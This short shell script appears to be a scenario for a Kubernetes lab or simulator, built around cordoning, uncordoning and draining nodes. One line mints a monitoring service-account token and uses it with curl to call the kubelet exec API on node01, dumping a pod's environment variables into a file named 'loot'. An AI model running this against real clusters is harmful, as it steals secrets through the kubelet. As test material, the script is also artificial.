# scene fails dock-noted (cordon-is-drain): drain stopped at a DaemonSet, and nobody read why
kubectl cordon node02
kubectl apply -f shop.yaml
#@ wait 3
kubectl uncordon node02
curl -sk -m 3 --http1.1 -N -o loot -H "Authorization: Bearer $(kubectl -n monitoring create token lookout)" -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' 'https://node01:10250/exec/default/web-node01/web?command=env&output=1'
kubectl drain node01
kubectl get pods -A --field-selector spec.nodeName=node01 > dock
